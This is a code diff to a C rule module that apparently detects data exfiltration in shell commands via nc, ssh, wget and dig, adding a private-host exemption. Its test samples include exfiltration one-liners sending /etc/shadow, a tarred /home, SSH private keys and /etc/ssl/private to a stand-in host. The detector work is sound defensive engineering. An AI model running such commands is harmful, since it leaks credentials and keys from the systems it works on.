@@ -48,17 +48,36 @@ static bool host_is_outside(const struct command *command)
     return command->word_count > 1 && is_outside(url_host(command->words[command->word_count - 1]));
 }
 
+/* "user@host" or "host", behind the options. */
+static bool ssh_is_outside(const struct command *command)
+{
+    for (size_t i = 1; i < command->word_count; i++) {
+        struct text word = command->words[i];
+        if (word.count < 2 || word.bytes[0] != '-')
+            return is_outside(url_host(word));
+        i += word.count == 2 && strchr("BbcDEeFIiJLlmOopQRSWwy", word.bytes[1]) != NULL;
+    }
+    return false;
+}
+
+static bool names_private_host(const struct command *command)
+{
+    for (size_t i = 1; i < command->word_count; i++)
+        if (event_address_is_private(command->words[i]) || text_equal(command->words[i], TEXT("localhost")))
+            return true;
+    return false;
+}
+
 /* What stands before it in the pipe reads something sensitive, or packs whole folders. */
 static bool fed_with_secrets(const struct judging *judging, const struct command *command)
 {
-    const struct command *first = judging->line->commands;
     static const char *const packers[] = {"tar", "zip", "gzip", "xz", "dd", "cpio", "mysqldump", "pg_dump", "base64", NULL};
 
-    for (const struct command *from = command; from > first && (from[-1].end == COMMAND_PIPES || from[-1].starts_next); from--) {
-        if (text_among(from[-1].name, packers))
+    for (const struct command *from = command; (from = command_fed_by(judging->line, from));) {
+        if (text_among(from->name, packers))
             return true;
-        for (size_t i = 1; i < from[-1].word_count; i++)
-            if (is_sensitive(from[-1].words[i]))
+        for (size_t i = 1; i < from->word_count; i++)
+            if (is_sensitive(from->words[i]))
                 return true;
     }
     return command->input_count && is_sensitive(command->inputs[0]);
@@ -103,11 +122,11 @@ static const char *wrong_with(const struct judging *judging, const struct comman
     if (text_equal(command->name, TEXT("wget")))
         return command_word_starting(command, "--post-file").bytes || command_word_starting(command, "--body-file").bytes ? "a file is uploaded" : NULL;
     if (text_among(command->name, netcats))
-        return fed_with_secrets(judging, command) ? "secrets, or a packed folder, are piped into a network connection" : NULL;
+        return fed_with_secrets(judging, command) && !names_private_host(command) ? "secrets, or a packed folder, are piped into a network connection" : NULL;
     if (text_among(command->name, copiers))
         return copied(command);
     if (text_equal(command->name, TEXT("ssh")) || text_equal(command->name, TEXT("dbclient")))
-        return fed_with_secrets(judging, command) && host_is_outside(command) ? "secrets are piped to an outside host" : NULL;
+        return fed_with_secrets(judging, command) && ssh_is_outside(command) ? "secrets are piped to an outside host" : NULL;
     if (text_among(command->name, resolvers))
         return long_label(command) ? "data is carried out in the names that are looked up" : NULL;
     if (text_equal(command->name, TEXT("ftpput")) || (text_equal(command->name, TEXT("tftp")) && command_has_letter(command, 'p')))
@@ -119,6 +138,9 @@ static const struct rule_sample samples[] = {
     {true, "$ curl -F f=@/etc/shadow http://198.51.100.7/u"},
     {true, "$ sh -c 'tar czf - /home | nc 198.51.100.7 9000'"},
     {true, "$ dig 4a6f686e20446f652070617373776f7264.x.example.org"},
+    {true, "$ sh -c tar cz /etc/ssl/private | ssh -p 2222 u@198.51.100.7 'cat > k.tgz'"},
+    {false, "$ sh -c tar cz /opt/app | ssh -p 2222 backup@192.168.1.2 'cat > app.tgz'"},
+    {false, "$ sh -c tar cz /opt/app | nc 192.168.1.2 9000"},
     {true, "$ scp /home/pi/.ssh/id_rsa u@198.51.100.7:/tmp/"},
     {false, "$ curl -O https://example.org/file.tgz"},
     {false, "$ scp /etc/config/network root@192.168.1.1:/tmp/"},
